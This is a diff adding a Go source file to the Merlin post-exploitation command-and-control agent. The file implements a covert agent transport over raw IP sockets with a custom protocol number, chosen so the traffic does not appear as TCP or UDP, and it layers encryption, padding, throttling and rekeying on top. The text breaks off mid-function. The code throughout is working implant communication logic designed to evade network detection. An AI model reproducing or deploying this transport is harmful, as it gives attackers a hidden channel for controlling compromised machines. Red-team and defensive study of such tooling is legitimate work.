@@ -0,0 +1,839 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package raw contains a configurable client used for raw IP peer-to-peer Agent communications using a custom IP
+// protocol number so that traffic is not seen as a TCP or UDP session
+package raw
+
+import (
+	// Standard
+	"bytes"
+	"crypto/sha256"
+	"encoding/binary"
+	"encoding/gob"
+	"fmt"
+	"math"
+	"net"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// 3rd Party
+	"github.com/google/uuid"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/chain"
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/prekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/rekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
+	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p"
+	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/chains"
+)
+
+const (
+	BIND    = 0
+	REVERSE = 1
+)
+
+// Client is a type of MerlinClient that is used to send and receive Merlin messages from the Merlin server
+type Client struct {
+	address       string                       // address is the network interface or parent IP address the agent will use
+	agentID       uuid.UUID                    // agentID the Agent's UUID
+	authComplete  chan bool                    // authComplete is a channel that is used to block sending messages until the Agent has successfully completed authenticated
+	authenticated bool                         // authenticated tracks if the Agent has successfully authenticated
+	authenticator authenticators.Authenticator // authenticator the method the Agent will use to authenticate to the server
+	client        net.Addr                     // client is the address of the parent Agent, returned from PacketConn.ReadFrom
+	connected     chan bool                    // connected is a channel that is used to track if the Agent is connected to a Parent
+	connection    net.Conn                     // connection the network socket connection used to handle traffic
+	listener      net.PacketConn               // listener the raw IP socket listening for traffic
+	listenerID    uuid.UUID                    // listenerID the UUID of the listener that this Agent is configured to communicate with
+	padding       *padding.Profile             // padding selects the amount of random padding added to each Base message
+	throttle      *throttle.Limiter            // throttle limits the rate, in bytes per second, that data is sent
+	rekey         *rekey.Schedule              // rekey tracks when the secret is replaced with a new one derived from it
+	protocol      int                          // protocol the IP protocol number used for the raw IP socket
+	psk           heap.Secret                  // psk the pre-shared key used for encrypting messages until authentication is complete
+	psks          []heap.Secret                // psks is the ordered list of Pre-Shared Keys tried when a message can't be decrypted with the secret
+	secret        heap.Secret                  // secret the key used to encrypt messages
+	transformers  [][]transformer.Transformer  // transformers the chains of transforms (encoding/encryption) to apply when constructing a message; one chain is picked for each message
+	mode          int                          // mode the type of client or communication mode (e.g., BIND or REVERSE)
+	sync.Mutex                                 // used to lock the Client when changes are being made by one function or routine
+}
+
+// Config is a structure that is used to pass in all necessary information to instantiate a new Client
+type Config struct {
+	Address      []string  // Address the interface (bind) or parent IP address (reverse); a port, if provided, is ignored
+	AgentID      uuid.UUID // AgentID the Agent's UUID
+	AuthPackage  string    // AuthPackage the type of authentication the agent should use when communicating with the server
+	ListenerID   uuid.UUID // ListenerID the UUID of the listener that this Agent is configured to communicate with
+	Padding      string    // Padding the padding profile: the max amount of random data appended to every message (e.g., 4096) or size distributions per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
+	Throttle     string    // Throttle the maximum rate, in bytes per second, that data is sent (e.g., 512K); empty is unlimited
+	Rekey        string    // Rekey is the message count and/or interval (e.g., 100,30m) after which a new secret is derived; empty never rekeys
+	Protocol     string    // Protocol the IP protocol number to use for the raw IP socket (e.g., 253)
+	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication, or a comma separated, ordered list of them
+	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message; multiple lists separated by a semicolon are chains and one is picked at random for each message
+	Mode         string    // Mode the type of client or communication mode (e.g., BIND or REVERSE)
+}
+
+// New instantiates and returns a Client that is constructed from the passed in Config
+func New(config Config) (*Client, error) {
+	cli.Message(cli.DEBUG, "Entering into clients/raw.New()...")
+	cli.Message(cli.DEBUG, fmt.Sprintf("Config: %+v", config))
+	client := Client{}
+	client.authComplete = make(chan bool, 1)
+	client.connected = make(chan bool, 1)
+	if config.AgentID == uuid.Nil {
+		return nil, fmt.Errorf("clients/raw.New(): a nil Agent UUID was provided")
+	}
+	client.agentID = config.AgentID
+	if config.ListenerID == uuid.Nil {
+		return nil, fmt.Errorf("clients/raw.New(): a nil Listener UUID was provided")
+	}
+
+	switch strings.ToLower(config.Mode) {
+	case "raw-bind":
+		client.mode = BIND
+	case "raw-reverse":
+		client.mode = REVERSE
+	default:
+		client.mode = BIND
+	}
+
+	client.listenerID = config.ListenerID
+	client.psks = heap.NewSecrets(clients.PSKs(config.PSK))
+	client.psk = client.psks[0]
+
+	// Parse Address and validate it
+	if len(config.Address) <= 0 {
+		return nil, fmt.Errorf("a configuration address value was not provided")
+	}
+	client.address = Host(config.Address[0])
+	_, err := net.ResolveIPAddr("ip4", client.address)
+	if err != nil {
+		return nil, err
+	}
+
+	// Parse the IP protocol number
+	client.protocol, err = Protocol(config.Protocol)
+	if err != nil {
+		return nil, fmt.Errorf("clients/raw.New(): %s", err)
+	}
+
+	// Set secret for encryption
+	k := sha256.Sum256(client.psk.Open())
+	client.secret = heap.NewSecret(k[:])
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk.Open()))
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret.Open()))
+
+	// Message padding profile
+	client.padding, err = padding.New(config.Padding)
+	if err != nil {
+		return &client, fmt.Errorf("clients/raw.New(): %s", err)
+	}
+
+	// Outbound bandwidth throttle
+	client.throttle, err = throttle.New(config.Throttle)
+	if err != nil {
+		return nil, fmt.Errorf("clients/raw.New(): %s", err)
+	}
+
+	// Session rekey schedule
+	client.rekey, err = rekey.New(config.Rekey)
+	if err != nil {
+		return nil, fmt.Errorf("clients/raw.New(): %s", err)
+	}
+
+	// Authenticator, or a comma separated list that is an ordered chain of authenticators that must all succeed (e.g., none,opaque)
+	client.authenticator, err = chain.Select(config.AgentID, config.AuthPackage)
+	if err != nil {
+		return nil, err
+	}
+
+	// Transformers
+	// Multiple transformer chains are separated by a semicolon and one is picked at random for each message
+	client.transformers, err = chains.New(config.Transformers)
+	if err != nil {
+		return nil, fmt.Errorf("clients/raw.New(): %s", err)
+	}
+
+	cli.Message(cli.INFO, "Client information:")
+	cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", &client))
+	cli.Message(cli.INFO, fmt.Sprintf("\tIP Protocol Number: %d", client.protocol))
+	cli.Message(cli.INFO, fmt.Sprintf("\tAddress: %s", client.address))
+	cli.Message(cli.INFO, fmt.Sprintf("\tListener: %s", client.listenerID))
+	cli.Message(cli.INFO, fmt.Sprintf("\tAuthenticator: %s", client.authenticator))
+	cli.Message(cli.INFO, fmt.Sprintf("\tTransforms: %+v", client.transformers))
+	cli.Message(cli.INFO, fmt.Sprintf("\tRekey: %s", client.rekey))
+	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %s", client.padding))
+
+	return &client, nil
+}
+
+// Host returns the host portion of the provided address, dropping the port if there is one
+func Host(addr string) string {
+	host, _, err := net.SplitHostPort(addr)
+	if err != nil {
+		return addr
+	}
+	return host
+}
+
+// Protocol converts the provided string into an IP protocol number, returning the default if the string is empty
+func Protocol(proto string) (int, error) {
+	if proto == "" {
+		return p2p.RawProtocol, nil
+	}
+	p, err := strconv.Atoi(proto)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error converting the IP protocol number %s to an integer: %s", proto, err)
+	}
+	if p < 0 || p > 255 {
+		return 0, fmt.Errorf("the IP protocol number must be between 0 and 255 but received %d", p)
+	}
+	return p, nil
+}
+
+// Privileged determines if the Agent has the privileges required to open a raw IP socket for the provided protocol number
+// Raw sockets require root or CAP_NET_RAW on *nix hosts and an elevated Administrator token on Windows
+func Privileged(proto int) bool {
+	conn, err := net.ListenPacket(fmt.Sprintf("ip4:%d", proto), "0.0.0.0")
+	if err != nil {
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Privileged(): unable to open a raw IP socket for protocol %d: %s", proto, err))
+		return false
+	}
+	err = conn.Close()
+	if err != nil {
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Privileged(): there was an error closing the raw IP socket: %s", err))
+	}
+	return true
+}
+
+// Initial executes the specific steps required to establish a connection with the C2 server and checkin or register an agent
+func (client *Client) Initial() (err error) {
+	cli.Message(cli.DEBUG, "clients/raw.Initial(): entering into function")
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Initial(): exiting function with error: %+v", err))
+
+	err = client.Connect()
+	if err != nil {
+		return fmt.Errorf("clients/raw.Initial(): %s", err)
+	}
+	<-client.connected
+
+	// Authenticate
+	return client.Authenticate(messages.Base{})
+}
+
+// Authenticate is the top-level function used to authenticate an agent to server using a specific authentication protocol
+// The function must take in a Base message for when the C2 server requests re-authentication through a message
+func (client *Client) Authenticate(msg messages.Base) (err error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Authenticate(): entering into function with message: %+v", msg))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Authenticate(): leaving function with error: %+v", err))
+
+	client.Lock()
+	client.authenticated = false
+	client.Unlock()
+	if len(client.authComplete) > 0 {
+		<-client.authComplete
+	}
+
+	var authenticated bool
+	// Reset the Agent's PSK
+	k := sha256.Sum256(client.psk.Open())
+	client.Lock()
+	client.secret = heap.NewSecret(k[:])
+	client.Unlock()
+
+	// Agree on an ephemeral pre-authentication secret so that the PSK alone can't decrypt the authentication messages
+	if prekey.Enabled() {
+		var secret []byte
+		secret, err = prekey.Agree(client.agentID, client.SendAndWait, string(client.psk.Open()))
+		if err != nil {
+			return
+		}
+		client.Lock()
+		client.secret = heap.NewSecret(secret)
+		client.Unlock()
+	}
+
+	// Repeat until authenticator is complete and Agent is authenticated
+	for {
+		msg, authenticated, err = client.authenticator.Authenticate(msg)
+		if err != nil {
+			return
+		}
+		// An empty message was received indicating to exit the function
+		if msg.Type == 0 {
+			return
+		}
+
+		// Once authenticated, update the client's secret used to encrypt messages
+		if authenticated {
+			client.Lock()
+			client.authenticated = true
+			client.Unlock()
+			var key []byte
+			key, err = client.authenticator.Secret()
+			if err != nil {
+				return
+			}
+			// Don't update the secret if the authenticator returned an empty key
+			if len(key) > 0 {
+				client.Lock()
+				client.secret = heap.NewSecret(key)
+				client.rekey.Reset()
+				client.Unlock()
+			}
+		}
+
+		if msg.Type == messages.OPAQUE {
+			// Send the message to the server
+			var msgs []messages.Base
+			msgs, err = client.SendAndWait(msg)
+			if err != nil {
+				return
+			}
+
+			// Add response message to the next loop iteration
+			if len(msgs) > 0 {
+				// Don't add IDLE messages, just continue on
+				if msgs[0].Type != messages.IDLE {
+					msg = msgs[0]
+				}
+			}
+		} else {
+			_, err = client.Send(msg)
+			if err != nil {
+				return
+			}
+		}
+
+		// If the Agent is authenticated, exit the loop and return the function
+		if authenticated {
+			client.authComplete <- true
+			return
+		}
+	}
+}
+
+// Connect establish a connection with the remote host depending on the Client's type (e.g., BIND or REVERSE)
+func (client *Client) Connect() (err error) {
+	cli.Message(cli.DEBUG, "clients/raw.Connect(): entering into function")
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Connect(): exiting function with error: %+v", err))
+
+	client.Lock()
+	defer client.Unlock()
+
+	// Ensure the connected channel is empty. If the Agent's sleep is less than 0, the channel might be full from a prior reconnect
+	if len(client.connected) > 0 {
+		<-client.connected
+	}
+
+	network := fmt.Sprintf("ip4:%d", client.protocol)
+	switch client.mode {
+	case BIND:
+		// Will hit this if connection was lost during initialization steps because a Listener will already exist
+		if client.listener == nil {
+			client.listener, err = net.ListenPacket(network, client.address)
+			if err != nil {
+				err = fmt.Errorf("clients/raw.Connect(): there was an error listening on %s for IP protocol %d: %s", client.address, client.protocol, err)
+				return
+			}
+			cli.Message(cli.NOTE, fmt.Sprintf("Started %s listener on %s for IP protocol %d", client, client.address, client.protocol))
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Listening for incoming connection at %s...", time.Now().UTC().Format(time.RFC3339)))
+		// First valid fragment is junk data to establish a connection but otherwise has no value or meaning and can be discarded
+		for {
+			var n int
+			buffer := make([]byte, 4096)
+			n, client.client, err = client.listener.ReadFrom(buffer)
+			if err != nil {
+				err = fmt.Errorf("clients/raw.Connect(): there was an error reading data from %s : %s", client.client, err)
+				return
+			}
+			_, _, _, err = p2p.UnwrapRaw(buffer[:n], p2p.RawDownstream)
+			if err != nil {
+				cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Connect(): discarding %d bytes from %s: %s", n, client.client, err))
+				continue
+			}
+			cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from raw IP connection %s at %s", n, client.client, time.Now().UTC().Format(time.RFC3339)))
+			break
+		}
+		client.connected <- true
+		// When an Agent previously authenticated, has a sleep less than 0, and has been unlinked, it will send an IDLE message to the server when a new link is established
+		if client.authenticated {
+			cli.Message(cli.NOTE, fmt.Sprintf("Sending gratuitious StatusCheckIn at %s...", time.Now().UTC().Format(time.RFC3339)))
+			_, err = client.Send(messages.Base{ID: client.agentID, Type: messages.CHECKIN})
+			if err != nil {
+				err = fmt.Errorf("clients/raw.Connect(): %s", err)
+				return
+			}
+		}
+		return
+	case REVERSE:
+		client.connection, err = net.Dial(network, client.address)
+		if err != nil {
+			err = fmt.Errorf("clients/raw.Connect(): there was an error connecting to %s with IP protocol %d: %s", client.address, client.protocol, err)
+			return
+		}
+		client.client = client.connection.RemoteAddr()
+		cli.Message(cli.SUCCESS, fmt.Sprintf("Successfully connected to %s from %s at %s", client.connection.RemoteAddr(), client.connection.LocalAddr(), time.Now().UTC().Format(time.RFC3339)))
+		client.connected <- true
+		return
+	default:
+		return fmt.Errorf("clients/raw.Connect(): unhandled raw client mode: %d", client.mode)
+	}
+}
+
+// Construct takes in a messages.Base structure that is ready to be sent to the server and runs all the configured transforms
+// on it to encode and encrypt it.
+func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
+	// Replace the secret with the next one derived from it when the rekey schedule is due
+	client.Lock()
+	secret := client.secret.Open()
+	if client.authenticated {
+		secret, err = client.rekey.Next(secret)
+		if err != nil {
+			client.Unlock()
+			return nil, fmt.Errorf("clients/raw.Construct(): %s", err)
+		}
+		client.secret = heap.NewSecret(secret)
+	}
+	client.Unlock()
+	index, prefix := transformer.Pick(len(client.transformers))
+	transformers := client.transformers[index]
+	for i := len(transformers); i > 0; i-- {
+		if i == len(transformers) {
+			// First call should always take a Base message
+			data, err = transformers[i-1].Construct(msg, secret)
+		} else {
+			data, err = transformers[i-1].Construct(data, secret)
+		}
+		if err != nil {
+			return nil, fmt.Errorf("clients/raw.Construct(): there was an error calling the transformer construct function: %s", err)
+		}
+	}
+	// The prefix identifies the transformer chain to the server when there is more than one
+	if prefix != nil {
+		data = append(prefix, data...)
+	}
+	return
+}
+
+// Deconstruct takes in data returned from the server and runs all the Agent's transforms on it until
+// a messages.Base structure is returned. The key is used for decryption transforms
+func (client *Client) Deconstruct(data []byte) (messages.Base, error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Deconstruct(): entering into function with message: %+v", data))
+	index, data, err := transformer.Identify(data, len(client.transformers))
+	if err != nil {
+		return messages.Base{}, fmt.Errorf("clients/raw.Deconstruct(): %s", err)
+	}
+	client.Lock()
+	secret, previous, psks := client.secret.Open(), client.rekey.Previous(), client.psks
+	client.Unlock()
+	for _, transform := range client.transformers[index] {
+		ret, err := transform.Deconstruct(data, secret)
+		if err != nil && previous != nil {
+			// The server may have constructed the message before it followed the Agent to its latest secret
+			ret, err = transform.Deconstruct(data, previous)
+		}
+		if err != nil {
+			cli.Message(cli.WARN, fmt.Sprintf("clients/raw.Deconstruct(): unable to deconstruct with Agent's secret, retrying with the PSKs"))
+			// Try each PSK in order and keep the first one that works
+			for _, p := range psks {
+				k := sha256.Sum256(p.Open())
+				ret, err = transform.Deconstruct(data, k[:])
+				if err == nil {
+					// If a PSK worked, assume the agent is unauthenticated to the server
+					secret = k[:]
+					client.Lock()
+					client.authenticated = false
+					client.psk = p
+					client.secret = heap.NewSecret(secret)
+					client.Unlock()
+					break
+				}
+			}
+			if err != nil {
+				return messages.Base{}, err
+			}
+		}
+		switch ret.(type) {
+		case []uint8:
+			data = ret.([]byte)
+		case string:
+			data = []byte(ret.(string))
+		case messages.Base:
+			return ret.(messages.Base), nil
+		default:
+			return messages.Base{}, fmt.Errorf("clients/raw.Deconstruct(): unhandled data type for Deconstruct(): %T", ret)
+		}
+	}
+	return messages.Base{}, fmt.Errorf("clients/raw.Deconstruct(): unable to transform data into messages.Base structure")
+}
+
+// Listen waits for incoming raw IP fragments from the parent Agent, reassembles them, deconstructs the data into Base
+// messages, and returns them
+func (client *Client) Listen() (returnMessages []messages.Base, err error) {
+	cli.Message(cli.DEBUG, "clients/raw.Listen(): entering into function")
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Listen(): leaving function with messages: %+v and error: %+v", returnMessages, err))
+
+	// Repair broken connections
+	if client.mode == REVERSE && client.connection == nil {
+		// If the connection is empty and this is a REVERSE agent, wait here until the connection is established
+		cli.Message(cli.INFO, fmt.Sprintf("Waiting for a client connection before listening for messages at %s", time.Now().UTC().Format(time.RFC3339)))
+		<-client.connected
+		cli.Message(cli.SUCCESS, fmt.Sprintf("Client connection re-esablished at %s", time.Now().UTC().Format(time.RFC3339)))
+	} else if client.mode == BIND && client.listener == nil {
+		// If the connection is empty and this is a BIND agent, wait for connection from Parent Agent
+		cli.Message(cli.NOTE, fmt.Sprintf("Client connection was empty. Re-establishing connection at %s...", time.Now().UTC().Format(time.RFC3339)))
+		err = client.Connect()
+		if err != nil {
+			err = fmt.Errorf("clients/raw.Listen(): %s", err)
+			return
+		}
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Listening for incoming messages from %v on %v at %s...", client.client, client.address, time.Now().UTC().Format(time.RFC3339)))
+
+	var buff bytes.Buffer
+	for {
+		var n int
+		var addr net.Addr
+		respData := make([]byte, p2p.MaxSizeRaw+p2p.RawHeaderSize)
+		switch client.mode {
+		case BIND:
+			n, addr, err = client.listener.ReadFrom(respData)
+		case REVERSE:
+			// IPConn.Read does not strip the IPv4 header, ReadFrom does
+			n, addr, err = client.connection.(net.PacketConn).ReadFrom(respData)
+		}
+		if err != nil {
+			err = fmt.Errorf("clients/raw.Listen(): there was an error reading the message from %s: %s", client.client, err)
+			return
+		}
+
+		// Raw sockets receive all packets for the IP protocol number, ignore anything that isn't from the parent
+		var fragment, total uint16
+		var payload []byte
+		payload, fragment, total, err = p2p.UnwrapRaw(respData[:n], p2p.RawDownstream)
+		if err != nil {
+			cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Listen(): discarding %d bytes from %s: %s", n, addr, err))
+			err = nil
+			continue
+		}
+		if client.mode == BIND {
+			client.client = addr
+		}
+
+		// Out of order fragments means a message was lost, start over with the new message
+		if int(fragment) != 0 && buff.Len() == 0 {
+			cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Listen(): discarding out of order fragment %d of %d", fragment+1, total))
+			continue
+		}
+		buff.Write(payload)
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Listen(): Read fragment %d of %d, %d bytes, from %s", fragment+1, total, n, addr))
+		if fragment+1 >= total {
+			break
+		}
+	}
+	cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from raw IP connection %s at %s", buff.Len(), client.client, time.Now().UTC().Format(time.RFC3339)))
+
+	// Type/Tag size is 4-bytes, Length size is 8-bytes for a total of 12-bytes for TLV
+	if buff.Len() < 12 {
+		err = fmt.Errorf("clients/raw.Listen(): Need at least 12 bytes in the buffer to read the TLV but only have %d", buff.Len())
+		return
+	}
+	tag := binary.BigEndian.Uint32(buff.Bytes()[:4])
+	if tag != 1 {
+		err = fmt.Errorf("clients/raw.Listen(): Expected a type/tag value of 1 for TLV but got %d", tag)
+		return
+	}
+	length := binary.BigEndian.Uint64(buff.Bytes()[4:12])
+	if uint64(buff.Len()) != length+4+8 {
+		err = fmt.Errorf("clients/raw.Listen(): expected %d bytes of data but received %d", length, buff.Len()-12)
+		return
+	}
+
+	var msg messages.Base
+	msg, err = client.Deconstruct(buff.Bytes()[12:])
+	if err != nil {
+		// Data from the initial link command, sent by another agent, can't be deconstructed
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Listen(): there was an error deconstructing the data: %s", err))
+		cli.Message(cli.INFO, fmt.Sprintf("Received data from %s that could not be deconstructed. Treating as a new connection...", client.client))
+		err = nil
+		// Send gratuitous checkin to provide parent Agent with linked agent data
+		if client.authenticated {
+			_, err = client.Send(messages.Base{ID: client.agentID, Type: messages.CHECKIN})
+		}
+		return
+	}
+	returnMessages = append(returnMessages, msg)
+	return
+}
+
+// Send takes in a Merlin message structure, performs any encoding or encryption, converts it to a delegate and writes it
+// to the parent Agent as raw IP fragments
+func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Send(): entering into function with message: %+v", m))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Send(): exiting function with error: %v and return messages: %+v", err, returnMessages))
+
+	// Recover connection
+	if client.mode == REVERSE && client.connection == nil {
+		// If the connection is empty and this is a REVERSE agent, attempt to connect to the listener
+		cli.Message(cli.NOTE, fmt.Sprintf("Client connection was empty. Re-establishing connection at %s...", time.Now().UTC().Format(time.RFC3339)))
+		err = client.Connect()
+		if err != nil {
+			err = fmt.Errorf("clients/raw.Send(): %s", err)
+			return
+		}
+	} else if client.mode == BIND && client.client == nil {
+		// If the connection is empty and this is a BIND agent, wait here for listener to receive a connection
+		cli.Message(cli.INFO, fmt.Sprintf("Waiting for a client connection before sending message at %s", time.Now().UTC().Format(time.RFC3339)))
+		<-client.connected
+	}
+
+	if !client.authenticated && m.Type != messages.OPAQUE {
+		cli.Message(cli.INFO, fmt.Sprintf("Waiting for authentication to complete before sending message at %s", time.Now().UTC().Format(time.RFC3339)))
+		<-client.authComplete
+		cli.Message(cli.INFO, fmt.Sprintf("Authentication completed, continuing with sending held message at %s", time.Now().UTC().Format(time.RFC3339)))
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s at %s", m.Type, client.client, time.Now().UTC().Format(time.RFC3339)))
+
+	// Set the message padding
+	if size := client.padding.Size(m.Type); size > 0 {
+		m.Padding = core.RandStringBytesMaskImprSrc(size)
+	}
+
+	data, err := client.Construct(m)
+	if err != nil {
+		err = fmt.Errorf("clients/raw.Send(): there was an error constructing the data: %s", err)
+		return
+	}
+
+	delegate := messages.Delegate{
+		Listener: client.listenerID,
+		Agent:    client.agentID,
+		Payload:  data,
+	}
+
+	// Convert messages.Base to gob
+	// Still need this for agent to agent message encoding
+	delegateBytes := new(bytes.Buffer)
+	err = gob.NewEncoder(delegateBytes).Encode(delegate)
+	if err != nil {
+		err = fmt.Errorf("clients/raw.Send(): there was an error encoding the %s message to a gob:\r\n%s", m.Type, err)
+		return
+	}
+
+	// Add in Tag/Type and Length for TLV
+	tag := make([]byte, 4)
+	binary.BigEndian.PutUint32(tag, 1)
+	length := make([]byte, 8)
+	binary.BigEndian.PutUint64(length, uint64(delegateBytes.Len()))
+
+	// Create TLV
+	outData := append(tag, length...)
+	outData = append(outData, delegateBytes.Bytes()...)
+
+	// Determine number of fragments based on MaxSizeRaw
+	fragments := int(math.Ceil(float64(len(outData)) / float64(p2p.MaxSizeRaw)))
+	if fragments > math.MaxUint16 {
+		err = fmt.Errorf("clients/raw.Send(): the message size %d requires %d fragments but the maximum is %d", len(outData), fragments, math.MaxUint16)
+		return
+	}
+
+	// Write the message
+	cli.Message(cli.NOTE, fmt.Sprintf("Writing message size %d bytes equaling %d fragments to %s at %s", len(outData), fragments, client.client, time.Now().UTC().Format(time.RFC3339)))
+	for i := 0; i < fragments; i++ {
+		start := i * p2p.MaxSizeRaw
+		stop := start + p2p.MaxSizeRaw
+		if stop > len(outData) {
+			stop = len(outData)
+		}
+		fragment := p2p.WrapRaw(outData[start:stop], p2p.RawUpstream, uint16(i), uint16(fragments))
+		client.throttle.Wait(len(fragment))
+		var n int
+		switch client.mode {
+		case BIND:
+			n, err = client.listener.WriteTo(fragment, client.client)
+		case REVERSE:
+			n, err = client.connection.Write(fragment)
+		}
+		if err != nil {
+			err = fmt.Errorf("clients/raw.Send(): there was an error writing the message to the connection with %s: %s", client.client, err)
+			return
+		}
+		cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Send(): Wrote fragment %d of %d, %d bytes, to %s at %s", i+1, fragments, n, client.client, time.Now().UTC().Format(time.RFC3339)))
+		// Raw IP packets, like UDP, are dropped if too many are sent too fast
+		if fragments > 100 {
+			time.Sleep(time.Millisecond * 10)
+		}
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Wrote %d bytes to %s at %s", len(outData), client.client, time.Now().UTC().Format(time.RFC3339)))
+	return
+}
+
+// SendAndWait takes in a Merlin message, encodes/encrypts it, and writes it to the output stream and then waits for response
+// messages and returns them
+func (client *Client) SendAndWait(m messages.Base) (returnMessages []messages.Base, err error) {
+	cli.Message(cli.DEBUG, "Entering into clients/raw.SendAndWait()...")
+
+	// Send
+	returnMessages, err = client.Send(m)
+	if err != nil {
+		err = fmt.Errorf("clients/raw.SendAndWait(): %s", err)
+		return
+	}
+
+	// Listen
+	return client.Listen()
+}
+
+// Get is a generic function that is used to retrieve the value of a Client's field
+func (client *Client) Get(key string) (value string) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Get(): entering into function with key: %s", key))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Get(): leaving function with value: %s", value))
+	switch strings.ToLower(key) {
+	case "ja3":
+		return ""
+	case "throttle":
+		value = strconv.Itoa(client.throttle.Rate())
+	case "protocol":
+		value = client.String()
+	default:
+		value = fmt.Sprintf("unknown client configuration setting: %s", key)
+	}
+	return
+}
+
+// ResetListener closes the listener for BIND Agents and sets it and the client to nil to facilitate a new client connection
+func (client *Client) ResetListener() (err error) {
+	cli.Message(cli.DEBUG, "clients/raw.ResetListener(): entering into function...")
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.ResetListener(): leaving function with error: %v", err))
+	if client.listener != nil {
+		cli.Message(cli.NOTE, fmt.Sprintf("Raw IP listener reset at %s", time.Now().UTC().Format(time.RFC3339)))
+		err = client.listener.Close()
+		if err != nil {
+			return fmt.Errorf("clients/raw.ResetListener(): there was an error closing the listener: %s", err)
+		}
+		client.listener = nil
+		client.client = nil
+		if len(client.connected) > 0 {
+			<-client.connected
+		}
+	}
+	return
+}
+
+// Padding returns the profile that selects the amount of random padding added to each Base message
+func (client *Client) Padding() *padding.Profile {
+	return client.padding
+}
+
+// SetPadding replaces the profile that selects the amount of random padding added to each Base message
+func (client *Client) SetPadding(profile *padding.Profile) {
+	client.padding = profile
+}
+
+// Set is a generic function that is used to modify a Client's field values
+func (client *Client) Set(key string, value string) (err error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Set(): entering into function with key: %s, value: %s", key, value))
+	defer cli.Message(cli.DEBUG, fmt.Sprintf("clients/raw.Set(): exiting function with err: %v", err))
+	client.Lock()
+	defer client.Unlock()
+
+	switch strings.ToLower(key) {
+	case "addr":
+		// Validate address
+		host := Host(value)
+		_, err = net.ResolveIPAddr("ip4", host)
+		if err != nil {
+			err = fmt.Errorf("clients/raw.Set(): there was an error parsing the provide address %s : %s", value, err)
+			return
+		}
+		client.address = host
+		if client.mode == BIND {
+			err = client.ResetListener()
+		} else {
+			client.connection = nil
+			client.listener = nil
+		}
+	case "bind":
+		err = client.ResetListener()
+	case "listener":
+		var id uuid.UUID
+		id, err = uuid.Parse(value)
+		if err != nil {
+			return fmt.Errorf("clients/raw.Set(): %s", err)
+		}
+		client.listenerID = id
+	case "throttle":
+		err = client.throttle.Set(value)
+	case "psk":
+		// The PSK, or ordered list of them, is replaced along with the secret derived from it so the next
+		// authentication uses the new PSK
+		client.psks = heap.NewSecrets(clients.PSKs(value))
+		client.psk = client.psks[0]
+		k := sha256.Sum256(client.psk.Open())
+		client.secret = heap.NewSecret(k[:])
+	case "secret":
+		client.secret = heap.NewSecret([]byte(value))
+	default:
+		err = fmt.Errorf("unknown raw client setting: %s", key)
+	}
+	return err
+}
+
+// String returns the type of raw IP client
+func (client *Client) String() string {
+	switch client.mode {
+	case BIND:
+		return "raw-bind"
+	case REVERSE:
+		return "raw-reverse"
+	default:
+		return "raw-unhandled"
+	}
+}
+
+// Synchronous identifies if the client connection is synchronous or asynchronous, used to determine how and when messages
+// can be sent/received.
+func (client *Client) Synchronous() bool {
+	switch client.mode {
